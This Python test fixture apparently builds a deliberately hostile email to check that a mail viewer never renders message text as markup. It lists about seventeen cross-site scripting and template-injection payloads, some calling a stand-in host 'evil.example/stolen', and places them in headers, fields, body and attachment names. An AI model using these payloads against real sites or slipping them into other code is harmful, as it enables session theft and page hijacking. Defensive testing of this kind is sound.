"""Mail that would take a page over, were its text ever taken for markup; written for these tests.

Each attempt, were it to work, asks `FOREIGN` for something, opens a dialog, or leaves an element with `data-evil`.
"""

from __future__ import annotations

from typing import Final

FOREIGN: Final = "http://evil.example"
RUNS: Final = f"alert(document.cookie);new Image().src='{FOREIGN}/stolen'"
ATTEMPTS: Final = (
    f"<script data-evil>{RUNS}</script>",
    f'<img data-evil src=x onerror="{RUNS}">',
    f'<img data-evil src="{FOREIGN}/pixel.png" width=1 height=1>',
    f'"><svg data-evil onload="{RUNS}"><a xlink:href="javascript:{RUNS}"><text y=9>x</text></a></svg>',
    f'\'"><body data-evil onload="{RUNS}"><input data-evil autofocus onfocus="{RUNS}">',
    f'</textarea></title></style></script><iframe data-evil src="{FOREIGN}/frame" srcdoc="<script>{RUNS}</script>"></iframe>',
    f'<meta data-evil http-equiv="refresh" content="0;url={FOREIGN}/refreshed">',
    f'<base data-evil href="{FOREIGN}/"><link data-evil rel=stylesheet href="{FOREIGN}/sheet.css">',
    f'<style data-evil>@import "{FOREIGN}/import.css"; body {{ background: url({FOREIGN}/ground.png) }}</style>',
    f'<div data-evil style="background-image:url({FOREIGN}/css.png);position:fixed;inset:0">x</div>',
    f'<form data-evil action="{FOREIGN}/form" method=post><button autofocus>Sign in again</button></form>',
    f'<video data-evil poster="{FOREIGN}/poster" src="{FOREIGN}/film" autoplay></video><object data-evil data="{FOREIGN}/object"></object>',
    f'<math data-evil><mtext><table><mglyph><style><img src=x onerror="{RUNS}"></style></mglyph></table></mtext></math>',
    f'<p data-evil hx-get="{FOREIGN}/htmx" hx-trigger="load" hx-on:load="{RUNS}">x</p>',
    f'<a data-evil href="java\tscript:{RUNS}" ping="{FOREIGN}/ping">customer number</a>',
    "{{ 7 * 7 }} {% raw %} ${7*7} <%= 7*7 %> #{7*7}",
    f'\\u003cimg data-evil src=x onerror="{RUNS}"\\u003e &lt;script data-evil&gt;{RUNS}&lt;/script&gt;',
)
_ALL: Final = " ".join(ATTEMPTS)


def hostile() -> bytes:
    """One mail with all of it in every place that a page shows: headers, fields, text, HTML, names of files."""
    folded = b"".join(b"\r\n " + attempt.replace("\t", " ").encode() for attempt in ATTEMPTS)
    name = ATTEMPTS[1].replace('"', "'")
    fields = (
        ("お客様番号", ATTEMPTS[0]),
        ("氏名", ATTEMPTS[1]),
        ("住所", ATTEMPTS[3]),
        ("お問い合わせ内容", ATTEMPTS[5]),
    )
    text = "".join(f"{label}：{value}\n" for label, value in fields)
    text += f"カタログの送付を停止してください。\n{_ALL}\n> {_ALL}\n"
    lines = [
        f'From: "{name}" <"<svg/onload=alert(1)>"@mail.example>'.encode(),
        b"To: desk@shop.example",
        b"Subject:" + folded,
        b"Date: Wed, 01 Apr 2026 09:00:00 +0900",
        b"Message-ID: <" + ATTEMPTS[2].encode() + b"@mail.example>",
        b"Reply-To: " + f'"{name}" <reply@mail.example>'.encode(),
        b"X-Note:" + folded,
        b"X-<img-src=x-onerror=alert(1)>: name of a header",
        b"MIME-Version: 1.0",
        b'Content-Type: multipart/mixed; boundary="b"',
        b"",
        b"--b",
        b'Content-Type: multipart/alternative; boundary="c"',
        b"",
        b"--c",
        b"Content-Type: text/plain; charset=utf-8",
        b"",
        text.encode(),
        b"--c",
        b"Content-Type: text/html; charset=utf-8",
        b"",
        f"<!doctype html><html><head>{_ALL}</head><body>{_ALL}<p>The words of the letter.</p></body></html>".encode(),
        b"--c--",
    ]
    for attempt in ATTEMPTS:
        quoted = attempt.replace("\t", " ").replace("\\", "\\\\").replace('"', '\\"').encode()
        lines += [
            b"--b",
            b'Content-Type: text/html; name="' + quoted + b'"',
            b'Content-Disposition: attachment; filename="' + quoted + b'"',
            b"",
            attempt.encode(),
        ]
    return b"\r\n".join([*lines, b"--b--", b""])
